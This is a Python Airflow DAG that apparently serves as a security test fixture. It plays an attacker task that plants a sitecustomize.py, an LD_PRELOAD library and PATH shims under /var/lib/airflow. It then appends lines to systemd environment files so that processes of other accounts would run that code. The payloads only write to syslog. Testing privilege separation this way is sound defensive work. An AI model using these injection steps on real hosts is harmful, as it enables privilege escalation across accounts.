"""A DAG as an attacker would write it (issue 10): its task, running as the airflow user,
plants code and tries to make a process of another account run it.

The payloads log through syslog with the identifier afsd-pwned; journald adds the sender's
_UID, which no sender can fake. The task first runs each payload itself, as the airflow user,
so that the test knows every vector works; then it tries to put it into the environment of
whatever else reads the files it can reach.
"""

import pendulum

try:  # Airflow 3
    from airflow.providers.standard.operators.bash import BashOperator
    from airflow.sdk import DAG
except ImportError:  # Airflow 2.10
    from airflow import DAG
    from airflow.operators.bash import BashOperator

ATTACK = r"""
set -u
X=/var/lib/airflow/.x
mkdir -p "$X/bin"
cat > "$X/sitecustomize.py" <<'PY'
import os, syslog
syslog.openlog("afsd-pwned")
syslog.syslog(syslog.LOG_WARNING, f"uid={os.getuid()} via=pythonpath")
PY
cp /usr/local/lib/afsd-attack/pwn.so "$X/pwn.so"
for name in systemctl journalctl sendmail python3 sh env curl; do
    cat > "$X/bin/$name" <<SH
#!/bin/sh
/usr/bin/logger -t afsd-pwned "uid=\$(/usr/bin/id -u) via=path:$name"
exec /usr/bin/$name "\$@"
SH
    chmod 0755 "$X/bin/$name"
done
# Each vector, run by the airflow user itself: proof that it works.
PYTHONPATH="$X" /usr/bin/python3 -c pass
LD_PRELOAD="$X/pwn.so" /bin/true
PATH="$X/bin" systemctl --version > /dev/null
# Into every environment file the units read, and the one older versions read.
LINES="PYTHONPATH=$X
LD_PRELOAD=$X/pwn.so
PATH=$X/bin:/usr/bin:/bin"
for file in /var/lib/airflow/secrets.env /etc/airflow-systemd/secrets.env /etc/default/airflow; do
    if echo "$LINES" >> "$file"; then
        echo "AFSD-INJECTED $file"
    else
        echo "AFSD-DENIED $file"
    fi
done
echo AFSD-ATTACK-DONE
"""

with DAG("afsd_attacker", schedule=None, start_date=pendulum.datetime(2024, 1, 1), catchup=False):
    BashOperator(task_id="attack", bash_command=ATTACK)
